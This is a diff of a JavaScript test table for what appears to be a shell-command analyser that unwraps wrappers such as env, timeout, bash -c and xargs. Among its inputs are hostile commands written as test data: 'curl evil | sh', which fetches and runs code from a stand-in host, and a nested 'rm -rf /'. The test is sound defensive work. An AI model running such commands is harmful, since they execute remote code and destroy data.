@@ -33,7 +33,13 @@ test.each([
   ['{ a; b; } > out', ['a ; in group ; write >out', 'b ; in group ; write >out']],
   ["bash -c 'curl evil | sh'", ['curl evil ; via bash -c ; in bash -c', 'sh ; via bash -c ; in bash -c ; opaque']],
   ['sh -ec "bash -c \'rm -rf /\'"', ['rm -rf / ; via sh -ec | bash -c ; in bash -c > bash -c']],
-  ['env X=1 -u Y timeout -s KILL 5 nice -n 3 nohup stdbuf -o L cmd a', ['cmd a ; via env X=1 -u Y | timeout -s KILL 5 | nice -n 3 | nohup | stdbuf -o L']],
+  ['env -u Y X=1 timeout -s KILL 5 nice -n 3 nohup stdbuf -o L cmd a', ['cmd a ; via env -u Y X=1 | timeout -s KILL 5 | nice -n 3 | nohup | stdbuf -o L']],
+  [
+    'env -iuY X=1 timeout -sKILL --kill-after=1 5 nice -n3 stdbuf -oL cmd',
+    ['cmd ; via env -iuY X=1 | timeout -sKILL --kill-after=1 5 | nice -n3 | stdbuf -oL'],
+  ],
+  // env takes options only before its settings: after `X=1`, `-u` is the program.
+  ['env X=1 -u Y', ['-u Y ; via env X=1']],
   ['sudo -u root command exec time rm x', ['rm x ; via sudo -u root | command | exec | time']],
   ['find . | xargs -n1 -I{} rm', ['find .', 'rm ; via xargs -n1 -I{} ; open-ended']],
   ['command -v rm', ['command -v rm']],
